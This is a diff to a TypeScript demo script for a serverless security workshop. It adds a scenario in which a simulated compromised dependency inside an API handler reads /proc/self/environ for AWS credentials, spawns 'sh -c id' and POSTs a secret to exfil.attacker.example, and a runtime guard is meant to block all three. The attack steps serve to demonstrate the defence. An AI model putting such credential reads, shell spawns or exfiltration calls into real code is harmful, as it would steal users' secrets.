@@ -1,19 +1,37 @@
 /**
  * `pnpm demo`: the Customize Unicorns API on this machine, with what the
  * X-Ray console, CloudWatch Logs and CloudWatch Metrics would show for each
- * request. `--mysql mysql://root@127.0.0.1:3306` uses a MySQL server instead
- * of the embedded SQLite; `--serve` keeps the API up on localhost for curl;
- * `--out DIR` picks where the service map is written.
+ * request. Every function runs under a strict runtime guard; the last
+ * scenario shows it stopping a compromised dependency. See USAGE below.
  */
-import { mkdirSync, writeFileSync } from 'node:fs';
+import { execFileSync } from 'node:child_process';
+import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { createServer } from 'node:http';
 import { resolve } from 'node:path';
 import { parseArgs } from 'node:util';
 import { renderTrace } from '@lambda-sentinel/testing';
 import middy from '@middy/core';
 import type { ApiResponse, Invocation } from '../local/api-gateway.ts';
+import { createApiGateway } from '../local/api-gateway.ts';
 import { buildServiceMap, toHtml, toMermaid } from '../local/service-map.ts';
-import { startLocalStack } from '../local/stack.ts';
+import { outsideTheFunctions, startLocalStack } from '../local/stack.ts';
+import { allowedHosts, guardOptions } from '../src/shared/guard.ts';
+
+const USAGE = `Usage: pnpm demo [options]
+
+The Customize Unicorns API on this machine (dynalite, node:sqlite, a local JWT issuer, an X-Ray
+collector), every function under sentinel() with a strict runtime guard. Each scripted request
+prints its status, X-Ray trace, CloudWatch Logs lines and EMF metrics; then a compromised
+dependency tries to read /proc/self/environ, spawn a shell and call out to an unknown host (all
+three blocked), a service map, and "runtime guard: N violations" for the app (0 expected).
+
+Options:
+  --mysql URL   use a MySQL/MariaDB server (mysql://root@127.0.0.1:3306) instead of node:sqlite
+  --serve       keep the API up on http://127.0.0.1:PORT and print curl commands
+  --port PORT   the port for --serve (default 3000)
+  --out DIR     where service-map.html and service-map.mmd are written (default .demo-output/)
+  --quiet       one line per invocation instead of traces, logs and metrics
+  -h, --help    this text`;
 
 const { values: args } = parseArgs({
   options: {
@@ -22,8 +40,13 @@ const { values: args } = parseArgs({
     port: { type: 'string', default: '3000' },
     out: { type: 'string', default: resolve(import.meta.dirname, '../../../.demo-output') },
     quiet: { type: 'boolean', default: false },
+    help: { type: 'boolean', short: 'h', default: false },
   },
 });
+if (args.help) {
+  console.log(USAGE);
+  process.exit(0);
+}
 
 const colour = process.stdout.isTTY && !process.env.NO_COLOR;
 const paint = (code: number) => (s: string) => (colour ? `\x1b[${code}m${s}\x1b[0m` : s);
@@ -38,6 +61,8 @@ const indent = (text: string, by = '    ') => text.replace(/^/gm, by);
 const stack = await startLocalStack(args.mysql ? { mysqlUrl: args.mysql } : {});
 const { api, cognito, collector } = stack;
 const allInvocations: Invocation[] = [];
+/** How many of allInvocations are the app's own (the runtime guard scenario's come after). */
+let appInvocations = 0;
 
 function traceDocs(root: string) {
   return collector.byTrace(root) as any[];
@@ -141,6 +166,11 @@ console.log(bold('Lambda Sentinel demo — the serverless security workshop\'s "
 console.log(
   dim(
     `database: ${stack.database} · DynamoDB: dynalite ${stack.dynamodbEndpoint} · Cognito: local issuer ${cognito.userPoolId} · X-Ray: collector ${collector.address}`,
+  ),
+);
+console.log(
+  dim(
+    `runtime guard: every policy blocks · writes: /tmp/** · reads: not ${process.env.LAMBDA_TASK_ROOT}/** nor /proc/*/environ · no child processes · outbound: ${allowedHosts().join(', ')}`,
   ),
 );
 
@@ -311,6 +341,7 @@ if (args.serve) {
         serviceName: 'render-preview',
         allow: [{ kind: 'unknown' }],
         budgets: { eventLoopDelayMs: 100, cpuMs: 150 },
+        guard: guardOptions(),
       }),
     );
     stack.functions.renderPreview = renderPreview;
@@ -340,12 +371,79 @@ if (args.serve) {
         parentId,
       };
     });
+    appInvocations = allInvocations.length;
+
+    // The runtime guard at work. No vulnerability is added to the app: the demo builds a copy of
+    // unicornParts — the real handler, under the same sentinel() options and strict guard — whose
+    // request path first runs a "compromised dependency", and routes GET /socks to it.
+    const { unicornParts } = await import('../src/app/unicornParts.ts');
+    const { apiRule } = await import('../src/shared/allow.ts');
+    const attempts: Array<{ action: string; outcome: string }> = [];
+    async function attempt(action: string, run: () => unknown) {
+      try {
+        await run();
+        attempts.push({ action, outcome: 'succeeded' });
+      } catch (error) {
+        // fetch reports a refused connection as a TypeError whose cause is the guard's error.
+        const cause = (error as { cause?: unknown }).cause ?? error;
+        const name = (cause as Error).name;
+        const policy = (cause as { policy?: string }).policy;
+        attempts.push({ action, outcome: policy ? `blocked: ${name} (${policy})` : `failed: ${name}` });
+      }
+    }
+    // What a malicious package update would do on import of a hot code path; it swallows its own
+    // errors so that the request still succeeds and nobody notices.
+    async function compromisedDependency() {
+      await attempt("read /proc/self/environ (the function's AWS credentials)", () =>
+        readFileSync('/proc/self/environ'),
+      );
+      await attempt('spawn sh -c "id"', () => execFileSync('sh', ['-c', 'id']));
+      await attempt('POST the loot to https://exfil.attacker.example/', () =>
+        fetch('https://exfil.attacker.example/collect', {
+          method: 'POST',
+          body: 'AWS_SECRET_ACCESS_KEY=...',
+        }),
+      );
+    }
+    const compromisedParts = middy(async (event: Parameters<typeof unicornParts>[0]) => {
+      await compromisedDependency();
+      return unicornParts(event);
+    }).use(
+      sentinel({
+        ...instrumentation('unicorn-parts'),
+        serviceName: 'unicorn-parts',
+        allow: [apiRule()],
+        guard: guardOptions(),
+      }),
+    );
+    const compromisedApi = createApiGateway({
+      apiId: stack.apiId,
+      stage: stack.stage,
+      accountId: stack.accountId,
+      region: stack.region,
+      authorizer: stack.functions.authorizer!,
+      functions: { unicornParts: compromisedParts },
+      xrayDaemonAddress: collector.address,
+      routes: [{ method: 'GET', resource: '/socks', function: 'unicornParts' }],
+    });
+    await scenario(
+      'Runtime guard: a compromised dependency inside unicornParts reads the environment, spawns a shell, calls home',
+      () => compromisedApi.request('GET', '/socks', { headers: bearer(token) }),
+    );
+    console.log(bold('  What the compromised dependency tried:'));
+    for (const { action, outcome } of attempts) {
+      const shown = outcome.startsWith('blocked') ? green(outcome) : red(outcome);
+      console.log(`    ${action} → ${shown}`);
+    }
   });
 
   const edges = buildServiceMap(allInvocations, traceDocs);
-  mkdirSync(args.out, { recursive: true });
-  writeFileSync(resolve(args.out, 'service-map.html'), toHtml(edges));
-  writeFileSync(resolve(args.out, 'service-map.mmd'), toMermaid(edges));
+  // The demo's own files, not the functions': written outside their runtime guard (which allows /tmp only).
+  await outsideTheFunctions(() => {
+    mkdirSync(args.out, { recursive: true });
+    writeFileSync(resolve(args.out, 'service-map.html'), toHtml(edges));
+    writeFileSync(resolve(args.out, 'service-map.mmd'), toMermaid(edges));
+  });
   console.log(`\n${bold('Service map')} (as the X-Ray console draws it)`);
   console.log(indent(toMermaid(edges), '  '));
   console.log(`Written to ${resolve(args.out, 'service-map.html')} and service-map.mmd`);
@@ -353,5 +451,10 @@ if (args.serve) {
     i.output.logs.filter((l: any) => l.security_event || l.securityEvent),
   );
   console.log(`${allInvocations.length} invocations, ${events.length} security event log lines.`);
+  const violations = allInvocations
+    .slice(0, appInvocations)
+    .flatMap((i) => i.output.logs.filter((l: any) => l.security_event?.type === 'guard_violation'));
+  const summary = `runtime guard: ${violations.length} violations in the app's ${appInvocations} invocations (every policy blocking)`;
+  console.log(violations.length ? red(summary) : green(summary));
   await stack.close();
 }
